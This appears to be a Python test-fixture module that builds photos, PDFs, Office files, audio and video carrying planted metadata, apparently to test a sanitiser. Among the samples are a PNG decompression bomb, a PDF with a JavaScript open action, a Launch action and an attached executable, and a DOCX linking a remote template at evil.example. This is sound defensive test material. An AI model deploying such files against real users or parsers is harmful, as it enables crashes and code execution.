"""Files to send in tests: real ones made here, and the kinds somebody with bad intentions would make."""

import io
import struct
import wave
import zipfile
import zlib

import pikepdf
from PIL import Image, ImageDraw
from PIL.ExifTags import GPS

from liren.core.documents.ogg import Page

# Words that must never come out again.
MAKER, PLACE, OWNER = "HONOR-SECRET", "LatSecret31", "苏敏的手机"
SECRETS = tuple(word.encode() for word in (MAKER, PLACE, OWNER))


def picture(size=(640, 480), mode="RGB"):
    """Points that differ everywhere, so that they do not pack to nothing."""
    return Image.effect_mandelbrot(size, (-2.2, -1.5, 1.0, 1.5), 60).convert(mode)


def saved(image, kind, **facts):
    """An image as the bytes of a file."""
    out = io.BytesIO()
    image.save(out, kind, **facts)
    return out.getvalue()


def jpeg(size=(640, 480), **facts):
    """A photo without notes."""
    return saved(picture(size), "JPEG", quality=92, **facts)


def camera_notes(orientation=1):
    """What a phone writes into a photo: maker, place, time, owner."""
    notes = Image.Exif()
    notes[0x010F], notes[0x0110], notes[0x0112] = MAKER, MAKER, orientation
    notes[0x013B] = PLACE
    inner = notes.get_ifd(0x8769)
    inner[0x9003], inner[0x9011] = "2026:07:14 09:30:15", "+08:00"
    inner[0x927C] = MAKER.encode()
    place = notes.get_ifd(0x8825)
    place[GPS.GPSLatitudeRef], place[GPS.GPSLatitude] = "N", (31.0, 14.0, 22.5)
    place[GPS.GPSLongitudeRef], place[GPS.GPSLongitude] = "E", (121.0, 29.0, 3.5)
    place[GPS.GPSAreaInformation] = b"ASCII\0\0\0" + PLACE.encode()
    return notes


def photo(size=(640, 480), orientation=1):
    """A photo as it comes from a phone, a marked corner above left, everything noted beside it."""
    image = picture(size)
    ImageDraw.Draw(image).rectangle((0, 0, size[0] // 4, size[1] // 4), fill="red")
    xmp = f"<x:xmpmeta xmlns:x='adobe:ns:meta/'>{OWNER}</x:xmpmeta>".encode()
    facts = {"exif": camera_notes(orientation), "comment": MAKER.encode(), "xmp": xmp}
    return saved(image, "JPEG", quality=90, **facts)


def chunk(kind, body):
    """One chunk of a PNG."""
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def noted_png(image=None):
    """A PNG with text and camera notes."""
    from PIL.PngImagePlugin import PngInfo

    notes = PngInfo()
    notes.add_text("Author", MAKER)
    notes.add_itxt("Comment", OWNER, zip=False)
    return saved(image or picture(), "PNG", pnginfo=notes, exif=camera_notes())


def bomb_png(width=10_000, height=10_000):
    """A hundred million points in some hundred kilobytes."""
    packer = zlib.compressobj(9)
    row = b"\0" * (1 + width // 8)
    body = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def pdf(**facts):
    """A PDF with author, script, attachment, actions, and a photo of a phone on its page."""
    new = pikepdf.new()
    page = new.add_blank_page(page_size=(300, 200))
    raw = photo((60, 40))
    shown = pikepdf.Stream(new, raw)
    shown.Type, shown.Subtype, shown.Width, shown.Height = pikepdf.Name.XObject, pikepdf.Name.Image, 60, 40
    shown.ColorSpace, shown.BitsPerComponent, shown.Filter = pikepdf.Name.DeviceRGB, 8, pikepdf.Name.DCTDecode
    page.obj.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=shown))
    page.obj.Contents = pikepdf.Stream(new, b"q 200 0 0 150 20 20 cm /Im0 Do Q")
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('SCRIPT')"))
    new.Root.OpenAction = script
    go = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("LAUNCHED.exe"))
    page.obj.Annots = pikepdf.Array(
        [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=go)]
    )
    new.attachments["CARRIED.exe"] = b"MZ carried"
    with new.open_metadata() as told:
        told["dc:creator"] = [OWNER]
    new.docinfo["/Author"] = MAKER
    out = io.BytesIO()
    new.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable, **facts)
    return out.getvalue()


CORE = f"<cp:coreProperties xmlns:cp='c' xmlns:dc='d'><dc:creator>{OWNER}</dc:creator></cp:coreProperties>"
RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
    'Target="https://liren.example/" TargetMode="External"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="http://evil.example/LatSecret31.dotm" TargetMode="External"/></Relationships>'
)


def package(parts, **more):
    """A zip with these parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {**parts, **more}.items():
            archive.writestr(name, content)
        archive.comment = MAKER.encode()
    return out.getvalue()


def docx(more=None):
    """A text with its author, an outside template, and a photo of a phone."""
    parts = {
        "[Content_Types].xml": "<Types/>",
        "docProps/core.xml": CORE,
        "docProps/app.xml": f"<Properties><Company>{OWNER}</Company></Properties>",
        "word/document.xml": "<w:document>楼道堆物，请清理</w:document>",
        "word/_rels/settings.xml.rels": RELATIONS,
        "word/media/image1.jpeg": photo((60, 40)),
        "word/media/image2.png": noted_png(picture((60, 40))),
    }
    return package({**parts, **(more or {})})


def xlsx():
    """A workbook that says on whose computer it lay."""
    path = f'<x15ac:absPath url="C:\\Users\\{MAKER}\\" xmlns:x15ac="x"/>'
    return package(
        {
            "[Content_Types].xml": "<Types/>",
            "docProps/core.xml": CORE,
            "xl/workbook.xml": f"<workbook><mc:Choice>{path}</mc:Choice><sheets/></workbook>",
        }
    )


def mp3(frames=100, before=b"", behind=b""):
    """Silent frames of 32 kbit/s between notes."""
    return before + (b"\xff\xfb\x10\xc4" + b"\0" * 100) * frames + behind


def id3():
    """Notes before the sound."""
    body = b"TPE1" + OWNER.encode() + MAKER.encode()
    return b"ID3\x04\0\0" + bytes([0, 0, len(body) >> 7, len(body) & 127]) + body


def aac(frames=50):
    """Silent frames of 16 kHz."""
    size = 7 + 20
    head = bytes([0xFF, 0xF1, 0x60, 0x40 | size >> 11, size >> 3 & 255, (size & 7) << 5 | 0x1F, 0xFC])
    return (head + b"\0" * 20) * frames


def amr(frames=100, behind=b""):
    """Two seconds of a telephone's recorder."""
    return b"#!AMR\n" + (b"\x3c" + b"\x55" * 31) * frames + behind


def wav(seconds=1, notes=True):
    """A tone, with notes behind it."""
    out = io.BytesIO()
    with wave.open(out, "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(2)
        sound.setframerate(8000)
        sound.writeframes(b"\x10\x00\xf0\xff" * 4000 * seconds)
    raw = out.getvalue()
    body = b"INFOIART" + struct.pack("<I", len(MAKER)) + MAKER.encode()
    told = b"LIST" + struct.pack("<I", len(body)) + body if notes else b""
    return b"RIFF" + struct.pack("<I", len(raw) - 8 + len(told)) + raw[8:] + told


def opus(comment=SECRETS[0], more=0):
    """Three seconds of Opus with comments, on as many pages as they need."""
    head = b"OpusHead" + struct.pack("<BBHIhB", 1, 1, 0, 48000, 0, 0)
    tags = b"OpusTags" + struct.pack("<I", len(comment)) + comment + struct.pack("<I", 0) + b"x" * more
    pages = [Page(2, 0, 77, bytes([len(head)]), head)]
    laces = b"\xff" * (len(tags) // 255) + bytes([len(tags) % 255])
    for at in range(0, len(laces), 255):
        part = laces[at : at + 255]
        pages.append(Page(1 if at else 0, 0, 77, part, tags[at * 255 : at * 255 + sum(part)]))
    for second in (1, 2, 3):
        pages.append(Page(4 if second == 3 else 0, second * 48000, 77, b"\x0a" * 5, b"\x08abcdefghi" * 5))
    return b"".join(page.written(number) for number, page in enumerate(pages))


def box(kind, *inside):
    """One box of a film."""
    body = b"".join(inside)
    return struct.pack(">I4s", 8 + len(body), kind) + body


def _track(handler, place, size):
    width = struct.pack(">II", 640 << 16, 360 << 16)
    table = box(
        b"stbl",
        box(b"stsd", bytes(8)),
        box(b"stsc", bytes(4), struct.pack(">IIII", 1, 1, 1, 1)),
        box(b"stsz", bytes(4), struct.pack(">III", 0, 1, size)),
        box(b"stco", bytes(4), struct.pack(">II", 1, place)),
    )
    header = box(b"tkhd", b"\0\0\0\1", struct.pack(">II", 3_900_000_000, 3_900_000_000), bytes(64), width)
    told = box(b"hdlr", bytes(8), handler, bytes(13))
    return box(b"trak", header, box(b"mdia", told, box(b"minf", table)), box(b"udta", MAKER.encode()))


def movie(brand=b"isom", handlers=(b"vide", b"soun", b"meta")):
    """A film with what a phone notes: a place in its description, and a track of its sensors."""
    sound, sensed = b"SOUNDSOUND", PLACE.encode()
    front = box(b"ftyp", brand, bytes(4))
    data = box(b"mdat", sound, sensed)
    places = {b"meta": (len(front) + 8 + len(sound), len(sensed))}
    tracks = [_track(h, *places.get(h, (len(front) + 8, len(sound)))) for h in handlers]
    times = struct.pack(">IIII", 3_900_000_000, 3_900_000_000, 1000, 4200)
    note = box(b"udta", box(b"\xa9xyz", OWNER.encode()))
    return (
        front
        + data
        + box(b"moov", box(b"mvhd", bytes(4), times, bytes(80)), *tracks, note)
        + box(b"uuid", MAKER.encode())
    )
